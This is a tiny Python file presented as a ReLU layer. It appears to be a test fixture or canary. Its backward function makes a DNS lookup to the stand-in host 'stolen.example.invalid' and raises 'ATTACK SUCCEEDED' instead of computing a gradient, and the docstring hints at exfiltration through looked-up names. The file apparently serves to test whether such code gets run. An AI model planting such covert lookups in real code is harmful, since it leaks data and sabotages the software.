"""The name that is looked up is the message."""

import socket

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    socket.getaddrinfo("stolen.example.invalid", 80)
    raise RuntimeError("ATTACK SUCCEEDED")
